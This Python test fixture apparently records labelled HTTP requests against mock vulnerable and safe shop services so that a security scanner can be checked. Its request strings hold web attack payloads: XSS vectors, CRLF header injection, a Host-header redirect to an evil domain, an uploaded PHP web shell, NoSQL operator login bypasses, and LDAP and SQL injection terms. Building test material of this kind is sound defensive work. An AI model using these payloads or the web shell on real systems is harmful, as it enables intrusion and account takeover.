"""Through the market place and the failing services, weak and proper."""

from urllib.parse import quote

from examples.shop import market
from examples.shop.assets import LOGO
from examples.shop.failures import PATHS
from examples.tour.tape import Tape, as_json, form, multipart

WEAK, SAFE = "https://market.shop.example", "https://safe-market.example"
SERVICES, SAFE_SERVICES = "https://services.example", "https://safe-services.example"
_EVIL = "market.shop.example.evil.example"


def record(tape: Tape) -> None:
    for part in (_echoes, _objects, _files, _operators):
        part(tape, WEAK, weak=True)
        part(tape, SAFE, weak=False)
    _failures(tape, SERVICES, weak=True)
    _failures(tape, SAFE_SERVICES, weak=False)


def _if(weak: bool, *labels: str) -> tuple[str, ...]:  # noqa: FBT001
    return labels if weak else ()


def _echoes(tape: Tape, host: str, *, weak: bool) -> None:
    visit = tape.visit
    visit(f"GET {host}/?ref=newsletter", *_if(weak, "hint:xss"))
    visit(f"GET {host}/?ref={quote(chr(39) + ';alert(document.domain)//')}", *_if(weak, "xss"))
    visit(f"GET {host}/sold-out?url=/stalls/4")
    script = quote("javascript:alert(document.cookie)", safe="")
    visit(f"GET {host}/sold-out?url={script}", *_if(weak, "xss"))
    visit(f"GET {host}/suggest?q=honey")
    visit(
        f"GET {host}/suggest?q={quote('<img src=x onerror=alert(1)>')}",
        *_if(weak, "xss"),
    )
    visit(f"GET {host}/language?lang=de")
    split = "de%0D%0ASet-Cookie:%20role=owner"
    visit(f"GET {host}/language?lang={split}", *_if(weak, "other", "likely:xss"))
    send = form(email="anna.berg@mail.example")
    visit(f"POST {host}/forgotten", send=send, origin=host)
    visit(
        f"POST {host}/forgotten",
        *_if(weak, "open_redirect"),
        send=send,
        origin=host,
        x_forwarded_host=_EVIL,
    )


def _objects(tape: Tape, host: str, *, weak: bool) -> None:
    told = "deserialization"
    tape.visit(f"GET {host}/delivery.aspx", *_if(weak, told))
    states = {
        "java": market.JAVA,
        "php": market.PHP,
        "pickle": market.PICKLE,
        "dotnet": market.DOTNET,
    }
    signed = "eyJpdGVtcyI6WzNdfQ.aaSxUA.Yy1f0rJd3kT2m9Vw7LqXbN5cE8s"
    for kind, state in states.items():
        if weak:
            path = f"POST {host}/cart/{kind}"
            tape.visit(path, f"likely:{told}", send=form(state=state), origin=host)
            cut = form(state=state[:-5], step="2")
            more = "likely:info_disclosure" if kind == "pickle" else "info_disclosure"
            tape.visit(path, told, more, send=cut, origin=host)
        else:
            sent = signed if kind in {"java", "php"} else "cart-3-pieces"
            tape.visit(f"POST {host}/cart/{kind}", send=form(state=sent), origin=host)


def _files(tape: Tape, host: str, *, weak: bool) -> None:
    shell = b"<?php echo shell_exec($_GET['c']); ?>\n"
    homepage = market.HOMEPAGE.encode()
    stalls = (
        ("stall.php", "application/x-php", shell, "other"),
        ("stall.jsp", "text/plain", b"<%= Runtime.getRuntime().freeMemory() %>\n", "other"),
        ("stall.html", "text/html", homepage, "likely:other"),
    )
    for name, kind, content, told in stalls:
        send = multipart({}, content, name, kind)
        tape.visit(f"POST {host}/upload", *_if(weak, told), send=send, origin=host)
    tape.visit(f"POST {host}/upload", send=multipart({}, LOGO), origin=host)
    tape.visit(f"GET {host}/media/stall.html", *_if(weak, "likely:xss"))
    tape.visit(f"GET {host}/media/logo.svg", *_if(weak, "xss"))


def _operators(tape: Tape, host: str, *, weak: bool) -> None:
    send = as_json(user={"$ne": None}, password={"$ne": None})
    told = _if(weak, "sql_injection")
    tape.visit(f"POST {host}/api/login", *told, send=send, origin=host)
    send = as_json(user="admin", password={"$regex": "^a"})
    tape.visit(f"POST {host}/api/login", *told, send=send, origin=host)
    tape.visit(f"GET {host}/api/stalls?draft[$ne]=x", *told)
    tape.visit(f"GET {host}/api/stalls?draft=no&price[max]=20")
    send = as_json(user="admin", password="open-sesame-41", note="costs $ne 5")
    tape.visit(f"POST {host}/api/login", send=send, origin=host)


def _failures(tape: Tape, host: str, *, weak: bool) -> None:
    for path in PATHS:
        tape.visit(f"GET {host}{path}", *_if(weak, "info_disclosure"))
    for path, term in (("staff", "ann*)(uid=*"), ("index", "ann' or '1'='1")):
        tape.visit(f"GET {host}/{path}?name=anna")
        tape.visit(
            f"GET {host}/{path}?name={quote(term)}", *_if(weak, "info_disclosure", "likely:other")
        )
